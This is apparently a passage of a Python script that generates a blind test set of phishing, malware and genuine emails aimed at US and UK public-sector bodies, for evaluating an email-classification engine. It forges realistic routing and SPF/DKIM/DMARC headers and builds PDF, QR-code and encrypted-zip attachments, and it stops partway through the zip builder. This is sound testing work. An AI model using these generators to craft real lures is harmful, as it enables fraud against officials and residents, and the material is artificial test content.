"""Blind evaluation set 36: staff of US and UK public-sector bodies and the citizens who deal with them.

City and county governments, borough councils, school districts, a state agency, courts, police, a water
authority and a transit authority, their suppliers, and residents paying taxes, tickets and utility bills.
Fifty attacks as they reached this population in 2024-2026 (vendor email compromise and fake bank
changes, payroll diversion, fake procurement portals and grant notices, Microsoft 365 / Google Workspace
credential lures, e-signature lures, shares from compromised neighbouring tenants, court / jury / ticket /
tax lures to citizens, malware in FOIA requests, resumes and invoices, callback scams, QR codes) and
twenty-five genuine messages that look most like them.

Run it with:

    cd /work/main && .venv/bin/python samples/tools/build_blind36_samples.py

Everything is deterministic: no clock, no unseeded randomness; re-running gives byte-identical files.
"""

from __future__ import annotations

import base64
import email.policy
import email.utils
import hashlib
import html as htmlmod
import io
import re
import struct
import sys
import zlib
from datetime import datetime, timedelta, timezone
from email.header import Header
from email.parser import BytesParser
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
MAIL = ROOT / "samples" / "mail"
N = 36

# Maintainer's corrections after the first scan: filed where the engine's classification puts them
# (the names keep the writer's kind).
REFILED: dict[str, str] = {
    # A link to a download, no program in the message: the engine names the lure phishing (URL_PROGRAM_DOWNLOAD's rule).
    "b36-phish-efile-served-documents-zip-link": "phishing",
    "b36-phish-hmcts-hearing-notice-zip-link": "phishing",
    "b36-phish-neighbour-authority-thread-hijack-link": "phishing",
    "b36-phish-planning-objection-pdf-msi": "phishing",
    "b36-phish-cv-link-portfolio-zip-lnk": "phishing",
    "b36-legit-paving-quickbooks-invoice": "bulk",
    "b36-legit-county-jury-service-reminder": "clean",
    "b36-legit-docusign-city-law-dept-psa": "clean",
    "b36-legit-county-property-tax-receipt": "clean",
    "b36-legit-m365-password-reset-notice": "clean",
    "b36-legit-sharepoint-share-neighbour-village": "bulk",
    "b36-legit-adobe-sign-state-grant-agreement": "clean",
}

ENTRIES: list[tuple[str, str, str, str, bytes]] = []


# --------------------------------------------------------------------------------------------------
# deterministic identifiers
# --------------------------------------------------------------------------------------------------

def _stream(seed: str, n: int) -> bytes:
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}#{i}".encode()).digest()
        i += 1
    return out[:n]


def hx(seed: str, n: int) -> str:
    return _stream(seed, (n + 1) // 2).hex()[:n]


def b64(seed: str, n: int) -> str:
    return base64.b64encode(_stream(seed, n)).decode()[:n]


def aln(seed: str, n: int) -> str:
    raw = base64.b64encode(_stream(seed, n * 2)).decode()
    return re.sub(r"[^A-Za-z0-9]", "", raw)[:n]


def num(seed: str, n: int) -> str:
    return str(int.from_bytes(_stream(seed, 16), "big")).rjust(n, "0")[-n:]


def guid(seed: str) -> str:
    h = hx(seed, 32)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


# --------------------------------------------------------------------------------------------------
# time
# --------------------------------------------------------------------------------------------------

def when(s: str) -> datetime:
    return datetime.strptime(s, "%Y-%m-%d %H:%M:%S %z")


def fmt(d: datetime) -> str:
    return email.utils.format_datetime(d)


def utc(d: datetime) -> str:
    return fmt(d.astimezone(timezone.utc))


def _nth_sunday(year: int, month: int, nth: int) -> datetime:
    d = datetime(year, month, 1, tzinfo=timezone.utc)
    while d.weekday() != 6:
        d += timedelta(days=1)
    return d + timedelta(days=7 * (nth - 1))


def pacific(d: datetime) -> str:
    u = d.astimezone(timezone.utc)
    start = _nth_sunday(u.year, 3, 2) + timedelta(hours=10)
    end = _nth_sunday(u.year, 11, 1) + timedelta(hours=9)
    if start <= u < end:
        return fmt(u.astimezone(timezone(timedelta(hours=-7)))) + " (PDT)"
    return fmt(u.astimezone(timezone(timedelta(hours=-8)))) + " (PST)"


def epoch(d: datetime) -> int:
    return int(d.timestamp())


# --------------------------------------------------------------------------------------------------
# header pieces
# --------------------------------------------------------------------------------------------------

def enc(s: str) -> str:
    """RFC 2047 encode a header value only when it is not ASCII."""
    try:
        s.encode("ascii")
        return s
    except UnicodeEncodeError:
        return Header(s, "utf-8").encode()


def addr_of(value: str) -> str:
    return email.utils.parseaddr(value)[1]


def dom_of(address: str) -> str:
    return address.rsplit("@", 1)[1].lower()


def fold_b64(prefix: str, data: str, width: int = 70) -> str:
    chunks = [data[i:i + width] for i in range(0, len(data), width)]
    return prefix + "\n\t ".join(chunks)


def dkim_sig(seed: str, d: str, s: str, t: datetime, h: str | None = None, extra: str = "") -> str:
    h = h or "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"
    bh = base64.b64encode(_stream(seed + "bh" + d, 32)).decode()
    sig = base64.b64encode(_stream(seed + "b" + d, 256)).decode()
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n\ts={s}; t={epoch(t)};{extra}"
            f"\n\th={h};\n\tbh={bh};\n" + fold_b64("\tb=", sig))


class Auth:
    """What the receiving server saw: the connecting host and the SPF / DKIM / DMARC outcome."""

    def __init__(self, ip: str, helo: str, mf: str, spf: str = "pass", dkim: list | None = None,
                 dmarc: str = "pass", pol: str = "none", fd: str = "", rdns: str | None = None):
        self.ip, self.helo, self.mf, self.spf = ip, helo, mf, spf
        self.dkim = dkim or []  # list of (domain, selector, result)
        self.dmarc, self.pol, self.fd = dmarc, pol, fd
        self.rdns = rdns if rdns is not None else helo

    @property
    def mfd(self) -> str:
        return dom_of(self.mf) if "@" in self.mf else self.mf


EOP = {
    "harlan": ("namprd09.prod.outlook.com", "SA1PR09MB", "BN0PR09CA", "BN1PEPF0000", "2603:10b6:806"),
    "marsh": ("namprd04.prod.outlook.com", "CH3PR04MB", "DM6PR04CA", "DS3PEPF0000", "2603:10b6:610"),
    "pine": ("namprd09.prod.outlook.com", "DM8PR09MB", "MN2PR09CA", "BL6PEPF0000", "2603:10b6:5:3c"),
    "vendor_us": ("namprd02.prod.outlook.com", "PH7PR02MB", "SJ0PR02CA", "SJ1PEPF0000", "2603:10b6:a03"),
    "vendor_uk": ("GBRP265.PROD.OUTLOOK.COM", "LO2P265MB", "LO4P265CA", "LO1PEPF0000", "2603:10a6:10:2ab"),
    "ashmere": ("GBRP123.PROD.OUTLOOK.COM", "CWLP123MB", "LO2P123CA", "CWLPEPF0000", "2603:10a6:400:1e2"),
    "outlook": ("NAMP220.PROD.OUTLOOK.COM", "SN7P220MB", "MW4PR03CA", "MWH0EPF0000", "2603:10b6:806:2b"),
}


def _eop_names(tenant: str, seed: str):
    region, mbx, fe, edge, v6 = EOP[tenant]
    m1 = f"{mbx}{num(seed + 'm1', 4)}.{region}"
    m2 = f"{mbx}{num(seed + 'm2', 4)}.{region}"
    f1 = f"{fe}{num(seed + 'f1', 4)}.{region}"
    f1o = f"{fe}{num(seed + 'f1', 4)}.outlook.office365.com"
    e1 = f"{edge}{hx(seed + 'e1', 4).upper()}.{region}"
    e1m = f"{edge}{hx(seed + 'e1', 4).upper()}.mail.protection.outlook.com"
    return region, m1, m2, f1, f1o, e1, e1m, v6


def eop_auth(a: Auth) -> list[str]:
    spf = {"pass": "pass", "softfail": "softfail", "fail": "fail", "none": "none", "neutral": "neutral"}[a.spf]
    parts = [f"spf={spf} (sender IP is {a.ip}) smtp.mailfrom={a.mfd};"]
    if a.dkim:
        for d, _s, r in a.dkim:
            why = {"pass": "signature was verified", "fail": "body hash did not verify"}.get(r, "no key for signature")
            parts.append(f"dkim={r} ({why}) header.d={d};")
    else:
        parts.append("dkim=none (message not signed) header.d=none;")
    if a.dmarc == "pass":
        parts.append(f"dmarc=pass action=none header.from={a.fd};compauth=pass reason=100")
    elif a.dmarc == "bestguesspass":
        parts.append(f"dmarc=bestguesspass action=none header.from={a.fd};compauth=pass reason=109")
    elif a.dmarc == "none":
        parts.append(f"dmarc=none action=none header.from={a.fd};compauth=softpass reason=201")
    else:
        action = {"none": "none", "quarantine": "quarantine", "reject": "oreject"}[a.pol]
        reason = "001" if a.pol == "none" else "000"
        parts.append(f"dmarc=fail action={action} header.from={a.fd};compauth=fail reason={reason}")
    lines = ["Authentication-Results: " + parts[0]]
    for p in parts[1:]:
        lines.append(" " + p)
    spf_line = {
        "pass": f"Received-SPF: Pass (protection.outlook.com: domain of {a.mfd} designates {a.ip} as permitted sender)"
                f"\n receiver=protection.outlook.com; client-ip={a.ip}; helo={a.helo}; pr=C",
        "softfail": f"Received-SPF: SoftFail (protection.outlook.com: domain of transitioning {a.mfd} discourages use of"
                    f"\n {a.ip} as permitted sender)",
        "fail": f"Received-SPF: Fail (protection.outlook.com: domain of {a.mfd} does not designate {a.ip} as"
                f"\n permitted sender) receiver=protection.outlook.com; client-ip={a.ip}; helo={a.helo};",
        "none": f"Received-SPF: None (protection.outlook.com: {a.mfd} does not designate permitted sender hosts)",
        "neutral": f"Received-SPF: Neutral (protection.outlook.com: {a.ip} is neither permitted nor denied by domain"
                   f"\n of {a.mfd}) receiver=protection.outlook.com; client-ip={a.ip}; helo={a.helo};",
    }[a.spf]
    return ["\n".join(lines), spf_line]


def google_auth(a: Auth, host: str = "mx.google.com") -> str:
    parts = [f"{host};"]
    for d, s, r in a.dkim:
        parts.append(f"dkim={r} header.i=@{d} header.s={s} header.b={aln(d + s + a.ip, 8)};")
    spf = {
        "pass": f"spf=pass (google.com: domain of {a.mf} designates {a.ip} as permitted sender) smtp.mailfrom={a.mf}",
        "softfail": f"spf=softfail (google.com: domain of transitioning {a.mf} does not designate {a.ip} as"
                    f" permitted sender) smtp.mailfrom={a.mf}",
        "fail": f"spf=fail (google.com: domain of {a.mf} does not designate {a.ip} as permitted sender)"
                f" smtp.mailfrom={a.mf}",
        "none": f"spf=none (google.com: {a.mf} does not designate permitted sender hosts) smtp.mailfrom={a.mf}",
        "neutral": f"spf=neutral (google.com: {a.ip} is neither permitted nor denied by best guess record for domain"
                   f" of {a.mf}) smtp.mailfrom={a.mf}",
    }[a.spf]
    parts.append(spf + (";" if a.dmarc != "none" else ""))
    if a.dmarc != "none":
        p = a.pol.upper()
        result = "pass" if a.dmarc in ("pass", "bestguesspass") else "fail"
        sp = "QUARANTINE" if a.fd == "gmail.com" else p
        parts.append(f"dmarc={result} (p={p} sp={sp} dis=NONE) header.from={a.fd}")
    return "\n       ".join(parts)


def received_spf_google(a: Auth) -> str:
    return {
        "pass": f"Received-SPF: pass (google.com: domain of {a.mf} designates {a.ip} as permitted sender)"
                f" client-ip={a.ip};",
        "softfail": f"Received-SPF: softfail (google.com: domain of transitioning {a.mf} does not designate"
                    f" {a.ip} as permitted sender) client-ip={a.ip};",
        "fail": f"Received-SPF: fail (google.com: domain of {a.mf} does not designate {a.ip} as permitted sender)"
                f" client-ip={a.ip};",
        "none": f"Received-SPF: none (google.com: {a.mf} does not designate permitted sender hosts)"
                f" client-ip={a.ip};",
        "neutral": f"Received-SPF: neutral (google.com: {a.ip} is neither permitted nor denied by best guess record"
                   f" for domain of {a.mf}) client-ip={a.ip};",
    }[a.spf]


def receive(profile: str, rcpt: str, t: datetime, a: Auth, seed: str, internal: bool = False) -> list[str]:
    """Header lines the receiving side adds, top first; ``t`` is when the MX accepted the message."""
    t1, t2, t3 = t, t + timedelta(seconds=1), t + timedelta(seconds=2)
    kind, _, tenant = profile.partition(":")
    if kind == "eop":
        region, m1, m2, f1, f1o, e1, e1m, v6 = _eop_names(tenant, seed)
        lines = [
            f"Received: from {m1} ({v6}:{hx(seed + 'v1', 3)}::{hx(seed + 'v2', 2)})\n by {m2} with HTTPS; {utc(t3)}",
            f"Received: from {f1o} ({v6}:{hx(seed + 'v3', 2)}::{hx(seed + 'v4', 2)}) by\n {m1}"
            f" ({v6}:{hx(seed + 'v1', 3)}::{hx(seed + 'v2', 2)}) with Microsoft SMTP Server (version=TLS1_2,\n"
            f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.{num(seed + 'b', 4)}.{num(seed + 'c', 2)};"
            f" {utc(t2)}",
        ]
        if internal:
            return lines
        lines.append(
            f"Received: from {e1} ({v6}:{hx(seed + 'v5', 3)}:cafe::{hx(seed + 'v6', 2)}) by {f1o}\n"
            f" ({v6}:{hx(seed + 'v3', 2)}::{hx(seed + 'v4', 2)}) with Microsoft SMTP Server (version=TLS1_3,\n"
            f" cipher=TLS_AES_256_GCM_SHA384) id 15.20.{num(seed + 'b', 4)}.{num(seed + 'd', 2)} via Frontend"
            f" Transport; {utc(t2)}")
        lines += eop_auth(a)
        lines.append(
            f"Received: from {a.helo} ({a.ip}) by\n {e1m} (10.167.{int(num(seed + 'i', 3)) % 250}."
            f"{int(num(seed + 'j', 3)) % 250}) with Microsoft SMTP Server (version=TLS1_3,\n"
            f" cipher=TLS_AES_256_GCM_SHA384) id 15.20.{num(seed + 'b', 4)}.{num(seed + 'd', 2)} via Frontend"
            f" Transport; {utc(t1)}")
        return lines
    if kind in ("gws", "gmail"):
        arc = "arc-20240605" if t.year >= 2025 or (t.year == 2024 and t.month >= 7) else "arc-20160816"
        ar = google_auth(a)
        sid = aln(seed + "sid", 26)
        return [
            f"Delivered-To: {rcpt}",
            f"Received: by 2002:a05:{hx(seed + 'g1', 4)}:{hx(seed + 'g2', 3)}:b0:{hx(seed + 'g3', 3)} with SMTP id"
            f" {aln(seed + 'g4', 5).lower()};\n        {pacific(t3)}",
            f"X-Google-Smtp-Source: AGHT+I{aln(seed + 'gs', 70)}",
            f"X-Received: by 2002:a05:{hx(seed + 'g5', 4)}:{hx(seed + 'g6', 3)}:b0:{hx(seed + 'g7', 3)} with SMTP id"
            f" {aln(seed + 'g8', 22).lower()};\n        {pacific(t2)}",
            f"ARC-Seal: i=1; a=rsa-sha256; t={epoch(t)}; cv=none;\n        d=google.com; s={arc};\n"
            + fold_b64("        b=", b64(seed + "as", 342) + "==", 66),
            f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s={arc};\n"
            f"        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
            f"        bh={b64(seed + 'abh', 43)}=;\n        fh={b64(seed + 'afh', 43)}=;\n"
            + fold_b64("        b=", b64(seed + "ams", 342) + "==", 66),
            "ARC-Authentication-Results: i=1; " + ar,
            f"Return-Path: <{a.mf}>",
            f"Received: from {a.helo} ({a.rdns} [{a.ip}])\n        by mx.google.com with ESMTPS id {sid}\n"
            f"        for <{rcpt}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n"
            f"        {pacific(t1)}",
            received_spf_google(a),
            "Authentication-Results: " + ar,
        ]
    if kind == "pp":  # Kessler County: Proofpoint in front of on-premises Exchange
        pid = f"4{aln(seed + 'pp1', 1).upper()}{num(seed + 'pp2', 2)}{aln(seed + 'pp3', 3)}{num(seed + 'pp4', 6)}"
        ares = [f"spf={a.spf} smtp.mailfrom={a.mf}"]
        for d, _s, r in a.dkim:
            ares.append(f"dkim={r} header.d={d}")
        ares.append(f"dmarc={'pass' if a.dmarc in ('pass', 'bestguesspass') else a.dmarc} header.from={a.fd}")
        return [
            f"Received: from KCEXMB02.kessler.local (10.40.12.22) by KCEXMB01.kessler.local (10.40.12.21)\n"
            f" with Microsoft SMTP Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id\n"
            f" 15.2.1544.14 via Mailbox Transport; {fmt(t3.astimezone(timezone(timedelta(hours=-6 if t.month in (1, 2, 12, 11) else -5))))}",
            f"Received: from mx0b-00469f01.pphosted.com (148.163.150.97) by KCEXMB02.kessler.local\n"
            f" (10.40.12.22) with Microsoft SMTP Server (version=TLS1_2,\n"
            f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.2.1544.14 via Frontend Transport;"
            f" {fmt(t2.astimezone(timezone(timedelta(hours=-6 if t.month in (1, 2, 12, 11) else -5))))}",
            f"Received: from pps.filterd (m0211432.ppops.net [127.0.0.1])\n\tby mx0b-00469f01.pphosted.com"
            f" (8.18.1.2/8.18.1.2) with ESMTP id 4{num(seed + 'pf', 2)}{aln(seed + 'pg', 2).upper()}{num(seed + 'ph', 5)}"
            f"\n\tfor <{rcpt}>; {utc(t2)}",
            "Authentication-Results: ppops.net;\n\t" + ";\n\t".join(ares),
            f"Received: from {a.helo} ({a.rdns} [{a.ip}])\n\tby mx0b-00469f01.pphosted.com (PPS) with ESMTPS id"
            f" {pid}\n\tfor <{rcpt}>\n\t(version=TLSv1.2 cipher=ECDHE-RSA-AES256-GCM-SHA384 bits=256 verify=NOT);"
            f"\n\t{utc(t1)}",
        ]
    if kind == "mc":  # Ashmere Borough Council: Mimecast in front of Exchange Online
        region, m1, m2, f1, f1o, e1, e1m, v6 = _eop_names("ashmere", seed)
        mid = aln(seed + "mc", 22)
        ares = [f"relay.mimecast.com;"]
        for d, _s, r in a.dkim:
            ares.append(f"dkim={r} header.d={d} header.s={_s} header.b={aln(seed + d, 8)};")
        dm = "pass" if a.dmarc in ("pass", "bestguesspass") else a.dmarc
        ares.append(f"dmarc={dm} (policy={a.pol}) header.from={a.fd};")
        ares.append(f"spf={a.spf} (relay.mimecast.com: domain of {a.mf} "
                    + ("designates" if a.spf == "pass" else "does not designate")
                    + f" {a.ip} as permitted sender) smtp.mailfrom={a.mf}")
        return [
            f"Received: from {m1} ({v6}:{hx(seed + 'v1', 3)}::{hx(seed + 'v2', 2)})\n by {m2} with HTTPS; {utc(t3)}",
            f"Received: from {f1o} ({v6}:{hx(seed + 'v3', 2)}::{hx(seed + 'v4', 2)}) by\n {m1}"
            f" ({v6}:{hx(seed + 'v1', 3)}::{hx(seed + 'v2', 2)}) with Microsoft SMTP Server (version=TLS1_2,\n"
            f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.{num(seed + 'b', 4)}.{num(seed + 'c', 2)};"
            f" {utc(t3)}",
            f"Received: from uk-smtp-delivery-1{num(seed + 'mcn', 2)}.mimecast.com (195.130.217.{int(num(seed + 'mi', 3)) % 200 + 20}) by\n"
            f" {e1m} (10.167.242.{int(num(seed + 'mj', 3)) % 250}) with Microsoft SMTP Server\n"
            f" (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id 15.20.{num(seed + 'b', 4)}.{num(seed + 'd', 2)}"
            f" via Frontend Transport; {utc(t2)}",
            f"Received: from {a.helo} ({a.rdns} [{a.ip}]) by\n relay.mimecast.com with ESMTP with STARTTLS"
            f" (version=TLSv1.3, cipher=TLS_AES_256_GCM_SHA384)\n id uk-mta-{num(seed + 'mt', 3)}-{mid};"
            f" {fmt(t1.astimezone(timezone.utc)).replace('+0000', '-0000')}",
            "Authentication-Results: " + "\n ".join(ares),
            f"X-Mimecast-MFC-AGG-ID: {mid}-1",
        ]
    if kind == "yahoo":
        ar = [f"atlas-production.v2-mail-prod1-gq1.omega.yahoo.com;"]
        for d, s, r in a.dkim:
            ar.append(f"dkim={r} header.i=@{d} header.s={s};")
        ar.append(f"spf={a.spf} smtp.mailfrom={a.mfd};")
        if a.dmarc != "none":
            dm = "pass" if a.dmarc in ("pass", "bestguesspass") else a.dmarc
            ar.append(f"dmarc={dm}(p={a.pol.upper()}) header.from={a.fd};")
        return [
            f"Received: from {a.ip} (EHLO {a.helo})\n by 10.217.{int(num(seed + 'y1', 3)) % 250}."
            f"{int(num(seed + 'y2', 3)) % 250} with SMTP; {utc(t1).replace('+0000', '+0000')}",
            f"X-Originating-Ip: [{a.ip}]",
            f"Received-SPF: {a.spf} (domain of {a.mfd} designates {a.ip} as permitted sender)"
            if a.spf == "pass" else f"Received-SPF: {a.spf} ({a.mfd}: {a.ip} is not a permitted sender)",
            "Authentication-Results: " + "\n ".join(ar),
            f"X-Apparently-To: {rcpt}; {utc(t1)}",
            f"Return-Path: <{a.mf}>",
        ]
    raise ValueError(profile)


def eop_tail(tenant: str, seed: str, t: datetime, internal: bool = False) -> list[str]:
    region = EOP[tenant][0]
    edge = f"{EOP[tenant][3]}{hx(seed + 'e1', 4).upper()}.{region}"
    lines = [
        f"X-MS-Exchange-Organization-Network-Message-Id: {guid(seed + 'nm')}",
        f"X-MS-Exchange-Organization-AuthSource: {edge if not internal else _eop_names(tenant, seed)[1]}",
        f"X-MS-Exchange-Organization-AuthAs: {'Internal' if internal else 'Anonymous'}",
        f"X-MS-Exchange-Organization-OriginalArrivalTime: {t.astimezone(timezone.utc).strftime('%d %b %Y %H:%M:%S.%f')[:-3]} (UTC)",
    ]
    if not internal:
        lines.append("X-MS-PublicTrafficType: Email")
    lines.append("X-MS-Exchange-Transport-EndToEndLatency: 00:00:0" + str(1 + int(num(seed + "lat", 1)) % 8)
                 + "." + num(seed + "lat2", 7))
    return lines


def build(*, stem: str, profile: str, rcpt: str, frm: str, subject: str, date: str, msgid: str, body,
          auth: Auth | None, to: str | None = None, cc: str | None = None, reply_to: str | None = None,
          sender_hops: list[str] | None = None, dkim: list[tuple[str, str]] | None = None,
          top: list[str] | None = None, extra: list[str] | None = None, internal: bool = False,
          dkim_h: str | None = None, lag: int = 3) -> bytes:
    """One delivered message.

    ``sender_hops`` are the sender side's own Received lines, top first, without their date (added here).
    ``top`` are extra headers the sender side puts above its Received lines (e.g. ARC from a forwarder).
    ``extra`` are headers written by the sending software after the standard ones.
    """
    d = when(date)
    arrive = d + timedelta(seconds=lag)
    lines: list[str] = []
    if auth is not None or internal:
        lines += receive(profile, rcpt, arrive, auth, stem, internal=internal)
        kind, _, tenant = profile.partition(":")
        if kind == "eop":
            lines += eop_tail(tenant, stem, arrive, internal)
        elif kind == "mc":
            lines += eop_tail("ashmere", stem, arrive)
    for s in dkim or []:
        lines.append(dkim_sig(stem, s[0], s[1], d, dkim_h))
    lines += top or []
    hops = sender_hops or []
    for i, hop in enumerate(hops):
        stamp = d + timedelta(seconds=max(1, lag - 1) * (len(hops) - i) / (len(hops) + 1))
        lines.append(f"{hop};\n\t{fmt(stamp.replace(microsecond=0))}")
    lines.append(f"From: {enc_addr(frm)}")
    lines.append(f"To: {to or rcpt}")
    if cc:
        lines.append(f"Cc: {cc}")
    lines.append(f"Subject: {enc(subject)}")
    lines.append(f"Date: {fmt(d)}")
    lines.append(f"Message-ID: {msgid}")
    if reply_to:
        lines.append(f"Reply-To: {reply_to}")
    lines += extra or []
    raw = message("\n".join(lines), body)
    m = re.match(r"<([A-Z0-9]+)@(([A-Z0-9]+)\.[A-Za-z0-9.]+)>$", msgid)
    if m and "outlook.com" in msgid.lower():
        raw = re.sub(rb"_00(\d)_[A-Z0-9]{4}PR09MB\d{4}namprd09prod_",
                     lambda x: f"_00{x.group(1).decode()}_{m.group(1)}{m.group(3)}namp_".encode(), raw)
    return raw


def enc_addr(value: str) -> str:
    if not (value.endswith(">") and "<" in value):
        return value
    cut = value.rindex("<")
    name, address = value[:cut].strip().strip('"'), value[cut + 1:-1]
    if not name:
        return value
    try:
        name.encode("ascii")
        if re.search(r'[(),.:;<>@\[\]"]', name):
            return f'"{name}" <{address}>'
        return f"{name} <{address}>"
    except UnicodeEncodeError:
        return f"{Header(name, 'utf-8').encode()} <{address}>"


# --------------------------------------------------------------------------------------------------
# bodies
# --------------------------------------------------------------------------------------------------

def strip_html(h: str) -> str:
    h = re.sub(r"(?is)<(style|script|head)\b.*?</\1>", "", h)
    h = re.sub(r'(?is)<a\b[^>]*href="([^"]+)"[^>]*>(.*?)</a>', lambda m: f"{m.group(2)} [{m.group(1)}]"
               if m.group(1).startswith("http") else m.group(2), h)
    h = re.sub(r"(?i)<br\s*/?>", "\n", h)
    h = re.sub(r"(?i)</t[dh]>", " ", h)
    h = re.sub(r"(?i)<(p|tr|div|h[1-6])\b", lambda m: "\n<" + m.group(1), h)
    h = re.sub(r"(?i)</(p|div|tr|h[1-6]|li|table)>", "\n", h)
    h = re.sub(r"<[^>]+>", "", h)
    h = htmlmod.unescape(h)
    out = []
    for line in h.split("\n"):
        line = re.sub(r"[ \t\xa0]+", " ", line).strip()
        if line or (out and out[-1]):
            out.append(line)
    return "\n".join(out).strip() + "\n"


def alt(plain: str | None, html: str, boundary: str, charset: str = "utf-8", enc_: str = "quoted-printable") -> Multi:
    plain = plain if plain is not None else strip_html(html)
    return Multi("alternative", boundary, [text(plain, "plain", enc_, charset), text(html, "html", enc_, charset)])


def mixed(boundary: str, *parts) -> Multi:
    return Multi("mixed", boundary, list(parts))


def outlook_boundary(seed: str, kind: str = "000") -> str:
    return f"_{kind}_{aln(seed + 'ob', 4).upper()}PR09MB{num(seed + 'obn', 4)}namprd09prod_"


def exchange_msgid(seed: str, tenant: str = "harlan") -> str:
    region, mbx = EOP[tenant][0], EOP[tenant][1]
    box = f"{mbx}{num(seed + 'ob', 4)}"
    return f"<{box}{hx(seed + 'mid', 28).upper()}@{box}.{region}>"


def gmail_msgid(seed: str) -> str:
    return f"<CA{aln(seed + 'gm', 2)}{aln(seed + 'gm2', 42)}@mail.gmail.com>"


def outlook_html(body_html: str, font: str = "Aptos") -> str:
    return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
            'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" content="text/html; '
            'charset=utf-8">\n<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n</head>\n'
            f'<body lang="EN-US" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">\n'
            f'<div class="WordSection1" style="font-family:{font},sans-serif;font-size:11pt">\n'
            + body_html + "\n</div>\n</body>\n</html>\n")


def paras(*ps: str) -> str:
    return "\n".join(f'<p class="MsoNormal">{p}</p>' for p in ps)


def gmail_html(body_html: str) -> str:
    return f'<div dir="ltr">{body_html}</div>\n'


# --------------------------------------------------------------------------------------------------
# attachments
# --------------------------------------------------------------------------------------------------

def info_obj(title: str, producer: str, created: str, author: str = "") -> bytes:
    a = f" /Author ({author})" if author else ""
    return f"<< /Title ({title}){a} /Producer ({producer}) /CreationDate (D:{created}) >>".encode()


def text_pdf(lines: list[str], title: str, producer: str, created: str, author: str = "",
             link: tuple[str, tuple[int, int, int, int], str] | None = None, size: int = 10) -> bytes:
    """A one-page text PDF, with optional link annotation (url, rect, label) drawn as a button."""
    content = ["BT", f"/F1 {size} Tf", f"{size + 4} TL", "56 790 Td"]
    for line in lines:
        content.append(f"({files._pdf_escape(line)}) Tj T*")
    content.append("ET")
    if link:
        url, (x0, y0, x1, y1), label = link
        content += ["0.0 0.36 0.62 rg", f"{x0} {y0} {x1 - x0} {y1 - y0} re f",
                    "BT /F1 12 Tf 1 1 1 rg", f"{x0 + 14} {y0 + 11} Td ({files._pdf_escape(label)}) Tj ET"]
    stream = "\n".join(content).encode("latin-1")
    annots = " /Annots [6 0 R]" if link else ""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> "
        f"/Contents 5 0 R{annots} >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
    ]
    if link:
        url, (x0, y0, x1, y1), _label = link
        objects.append(f"<< /Type /Annot /Subtype /Link /Rect [{x0} {y0} {x1} {y1}] /Border [0 0 0] "
                       f"/A << /S /URI /URI ({files._pdf_escape(url)}) >> >>".encode())
    objects.append(info_obj(title, producer, created, author))
    return files.pdf_file(objects, len(objects))


def qr_matrix_image(url: str, scale: int = 4, border: int = 4) -> tuple[bytes, int]:
    import segno

    qr = segno.make(url, error="m", micro=False)
    rows = [list(r) for r in qr.matrix]
    size = (len(rows) + 2 * border) * scale
    raw = bytearray()
    for y in range(size):
        my = y // scale - border
        for x in range(size):
            mx = x // scale - border
            dark = 0 <= my < len(rows) and 0 <= mx < len(rows) and rows[my][mx]
            raw.append(0 if dark else 255)
    return zlib.compress(bytes(raw), 9), size


def image_pdf(lines: list[str], image: bytes, width: int, height: int, filt: str, place: tuple[int, int, int, int],
              title: str, producer: str, created: str, lines_below: list[str] | None = None) -> bytes:
    x, y, w, h = place
    content = ["BT", "/F1 11 Tf", "15 TL", "56 770 Td"]
    for line in lines:
        content.append(f"({files._pdf_escape(line)}) Tj T*")
    content.append("ET")
    content.append(f"q {w} 0 0 {h} {x} {y} cm /Im1 Do Q")
    if lines_below:
        content += ["BT", "/F1 10 Tf", "14 TL", f"56 {y - 24} Td"]
        for line in lines_below:
            content.append(f"({files._pdf_escape(line)}) Tj T*")
        content.append("ET")
    stream = "\n".join(content).encode("latin-1")
    objects = files.image_page(stream, image, width, height, filt)
    objects.append(info_obj(title, producer, created))
    return files.pdf_file(objects, len(objects))


def qr_pdf(url: str, lines: list[str], title: str, producer: str, created: str, below: list[str] | None = None) -> bytes:
    img, size = qr_matrix_image(url)
    return image_pdf(lines, img, size, size, "FlateDecode", (206, 430, 200, 200), title, producer, created, below)


def grey_photo(seed: int) -> tuple[bytes, int, int]:
    from PIL import Image

    im = Image.open(io.BytesIO(files.photo_jpeg(seed, (480, 320)))).convert("L")
    out = io.BytesIO()
    im.save(out, "JPEG", quality=70)
    return out.getvalue(), 480, 320


_CRC = []
for _n in range(256):
    _c = _n
    for _k in range(8):
        _c = (0xEDB88320 ^ (_c >> 1)) if _c & 1 else _c >> 1
    _CRC.append(_c)


def zip_encrypted(members: list[tuple[str, bytes]], password: str, seed: str) -> bytes:
    """A zip whose members are deflated and encrypted with traditional PKWARE (ZipCrypto) encryption."""
    dos_time = (9 << 11) | (30 << 5)
